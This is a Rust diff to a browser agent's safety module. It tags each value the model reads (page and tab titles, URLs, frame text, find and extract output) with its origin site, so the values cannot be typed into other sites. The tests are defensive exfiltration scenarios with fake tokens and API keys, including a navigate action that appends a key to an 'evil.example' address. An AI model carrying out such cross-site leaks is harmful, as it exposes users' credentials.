@@ -3,7 +3,7 @@
 //! element's facts ([`ActionTarget`]) and never from the model's claims.
 
 use super::interventions::{Intervention, InterventionKind};
-use crate::action::Action;
+use crate::action::{Action, ActionOutcome};
 use crate::observation::{Item, Observation};
 use crate::safety::scope::sensitive_category;
 use crate::safety::{
@@ -386,10 +386,19 @@ fn describe_plainly(
     }
 }
 
-/// Records what the model is about to read in the taint ledger: page text, element names and
-/// values, per frame origin.
+/// Records what the model is about to read in the taint ledger, each value with the origin of
+/// the document it came from: page text, element names and values (a frame's with the frame's
+/// origin), the page's title and address, and every open tab's title and address (a sign-in
+/// code in another tab's title, a reset token in its address, are that tab's site's).
 pub fn record_observation(taint: &mut TaintLedger, observation: &Observation) {
-    record_items(taint, &observation.url, &observation.items);
+    let page = &observation.url;
+    taint.record_page_text(page, &observation.title);
+    taint.record_page_text(page, page);
+    for tab in &observation.tabs {
+        taint.record_page_text(&tab.url, &tab.title);
+        taint.record_page_text(&tab.url, &tab.url);
+    }
+    record_items(taint, page, &observation.items);
 }
 
 fn record_items(taint: &mut TaintLedger, url: &str, items: &[Item]) {
@@ -403,11 +412,56 @@ fn record_items(taint: &mut TaintLedger, url: &str, items: &[Item]) {
                 }
             }
             Item::Frame(frame) => {
-                let frame_url = if frame.url.is_empty() { url } else { &frame.url };
+                let frame_url = match (origin_of(&frame.url), frame.src.is_empty()) {
+                    (Some(_), _) => frame.url.as_str(),
+                    // No web address of its own, placed by its parent's iframe (`data:`,
+                    // `blob:`): it shows what that document put there.
+                    (None, false) => url,
+                    // No web address and no parent known (a sandboxed `srcdoc` frame answers
+                    // without its parent saying where): of unknown origin, it goes nowhere.
+                    (None, true) => "",
+                };
                 record_items(taint, frame_url, &frame.items);
             }
         }
     }
+}
+
+/// Records the page text an action brought back for the model (what extract and find read)
+/// with the origin of the document each part was read in: `find` searches every frame (it
+/// says where each line was read) and `extract` may target one, and a frame's text is its own
+/// site's, never the page's around it. Without parts, the text is the acting frame's (a frame
+/// the observation does not know: no origin, so the values may go nowhere).
+pub fn record_output(
+    taint: &mut TaintLedger,
+    observation: &Observation,
+    action: &Action,
+    outcome: &ActionOutcome,
+) {
+    if !matches!(action, Action::Extract { .. } | Action::Find { .. }) {
+        return;
+    }
+    if !outcome.read.is_empty() {
+        for part in &outcome.read {
+            taint.record_page_text(&part.url, &part.text);
+        }
+        return;
+    }
+    let Some(text) = &outcome.text else { return };
+    let url = match action.target_ref() {
+        Some(r) if r.frame != 0 => frame_url(&observation.items, r.frame).unwrap_or_default(),
+        _ => observation.url.as_str(),
+    };
+    taint.record_page_text(url, text);
+}
+
+/// The URL of merged frame `id` in `items`.
+fn frame_url(items: &[Item], id: u32) -> Option<&str> {
+    items.iter().find_map(|item| match item {
+        Item::Frame(frame) if frame.frame == id => Some(frame.url.as_str()),
+        Item::Frame(frame) => frame_url(&frame.items, id),
+        _ => None,
+    })
 }
 
 #[cfg(test)]
@@ -423,6 +477,124 @@ mod tests {
             origin,
             ..ActionTarget::default()
         }
+    }
+
+    fn text(t: &str) -> Item {
+        Item::Text { text: t.into(), heading: None, zone: crate::observation::Zone::In }
+    }
+
+    fn frame(id: u32, src: &str, url: &str, items: Vec<Item>) -> Item {
+        Item::Frame(crate::observation::Frame {
+            src: src.into(),
+            frame: id,
+            url: url.into(),
+            items,
+            zone: crate::observation::Zone::In,
+        })
+    }
+
+    /// Whether the ledger lets `value` be typed into a page of `origin`.
+    fn may_go(taint: &TaintLedger, value: &str, origin: &str) -> bool {
+        taint.check(&format!("{origin}/"), value).is_ok()
+    }
+
+    #[test]
+    fn titles_and_addresses_of_the_page_and_every_tab_keep_their_sites() {
+        let observation = Observation {
+            url: "https://dash.example/welcome?session=Zq8aX9canary42Lm9Tt77".into(),
+            title: "Dashboard".into(),
+            tabs: vec![
+                crate::observation::TabSummary {
+                    id: 1,
+                    title: "Your verification code is 493817".into(),
+                    url: "https://mail.example/inbox?reset=ghp_Qk3vR8sT1uV5wX9yZ2aB4cD6".into(),
+                    current: false,
+                },
+                crate::observation::TabSummary {
+                    id: 2,
+                    title: "Dashboard".into(),
+                    url: "https://dash.example/welcome?session=Zq8aX9canary42Lm9Tt77".into(),
+                    current: true,
+                },
+            ],
+            ..Observation::default()
+        };
+        let mut taint = TaintLedger::default();
+        record_observation(&mut taint, &observation);
+        let (paste, mail, dash) =
+            ("https://paste.example", "https://mail.example", "https://dash.example");
+        assert!(!may_go(&taint, "493817", paste), "another tab's title");
+        assert!(may_go(&taint, "493817", mail));
+        assert!(!may_go(&taint, "ghp_Qk3vR8sT1uV5wX9yZ2aB4cD6", paste), "another tab's address");
+        assert!(!may_go(&taint, "Zq8aX9canary42Lm9Tt77", paste), "the page's own address");
+        assert!(may_go(&taint, "Zq8aX9canary42Lm9Tt77", dash));
+    }
+
+    #[test]
+    fn frames_without_a_web_address_are_their_parents_or_nobodys() {
+        let observation = Observation {
+            url: "https://evil.example/".into(),
+            items: vec![
+                frame(
+                    2,
+                    "https://dash.example/keys",
+                    "https://dash.example/keys",
+                    vec![frame(
+                        3,
+                        "data:text/html,x",
+                        "data:text/html,x",
+                        vec![text("key Zq8aX9dataframe42Lm")],
+                    )],
+                ),
+                // An orphan: a sandboxed srcdoc frame no placeholder claimed.
+                frame(4, "", "about:srcdoc", vec![text("key Wp7bY3orphan99Kn2Qr")]),
+            ],
+            ..Observation::default()
+        };
+        let mut taint = TaintLedger::default();
+        record_observation(&mut taint, &observation);
+        let (evil, dash) = ("https://evil.example", "https://dash.example");
+        assert!(!may_go(&taint, "Zq8aX9dataframe42Lm", evil), "a data: frame is its parent's");
+        assert!(may_go(&taint, "Zq8aX9dataframe42Lm", dash));
+        assert!(!may_go(&taint, "Wp7bY3orphan99Kn2Qr", evil), "an orphan goes nowhere");
+        assert!(!may_go(&taint, "Wp7bY3orphan99Kn2Qr", dash));
+    }
+
+    #[test]
+    fn what_find_and_extract_read_in_a_frame_is_the_frames() {
+        let observation = Observation {
+            url: "https://evil.example/".into(),
+            items: vec![frame(2, "https://dash.example/keys", "https://dash.example/keys", vec![])],
+            ..Observation::default()
+        };
+        let key = "sk-live-Zq8aX9canary42Lm9Tt77";
+        let (evil, dash) = ("https://evil.example", "https://dash.example");
+        let found = ActionOutcome::read_in(vec![
+            crate::action::ReadText {
+                url: "https://evil.example/".into(),
+                text: "API keys".into(),
+            },
+            crate::action::ReadText {
+                url: "https://dash.example/keys".into(),
+                text: format!("Your API key: {key}"),
+            },
+        ]);
+        let mut taint = TaintLedger::default();
+        record_output(&mut taint, &observation, &Action::Find { query: "API key".into() }, &found);
+        assert!(!may_go(&taint, key, evil), "found in the frame, not on the page");
+        assert!(may_go(&taint, key, dash));
+        // An extract of an element in frame 2 that did not say where it read: the frame's.
+        let extract =
+            Action::Extract { ref_id: Some(crate::observation::Ref { frame: 2, index: 1 }) };
+        let mut taint = TaintLedger::default();
+        record_output(&mut taint, &observation, &extract, &ActionOutcome::with_text(key));
+        assert!(!may_go(&taint, key, evil));
+        assert!(may_go(&taint, key, dash));
+        // Other actions' outputs quote the model's own words: never a page's text.
+        let mut taint = TaintLedger::default();
+        let navigate = Action::Navigate { url: format!("https://evil.example/?k={key}") };
+        record_output(&mut taint, &observation, &navigate, &ActionOutcome::failed(key));
+        assert!(taint.is_empty());
     }
 
     #[test]
